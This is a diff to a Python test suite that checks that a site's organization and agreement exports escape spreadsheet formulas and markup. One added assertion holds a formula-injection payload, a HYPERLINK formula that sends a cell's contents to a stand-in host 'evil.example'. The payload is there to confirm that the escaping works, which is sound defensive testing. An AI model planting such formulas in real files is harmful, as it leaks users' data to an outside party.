@@ -214,6 +214,9 @@ def test_the_csv_opens_in_a_spreadsheet_as_text_with_its_formula_escaping(sites:
     data = json.loads((site / "organizations" / "organizations.json").read_text(encoding="utf-8"))
     assert {row["id"]: row["title"] for row in data["rows"] if row["id"] in HOSTILE} == HOSTILE
     assert data["audience"] == "public" and data["export"] == "organizations"
+    # Markup is written as JSON escapes, which read as the same value: no file the site serves holds it.
+    raw = (site / "organizations" / "organizations.json").read_text(encoding="utf-8")
+    assert '"=HYPERLINK(\\"http://evil.example/?leak=\\"\\u0026A1' in raw and "&A1" not in raw
     agreements = list(csv.DictReader(io.StringIO((site / "agreements" / "agreements.csv").read_text("utf-8-sig"))))
     parties = {name for row in agreements for name in row["parties"].split("; ")}
     assert "City Council" in parties  # a list joined with "; ", starting with a plain name
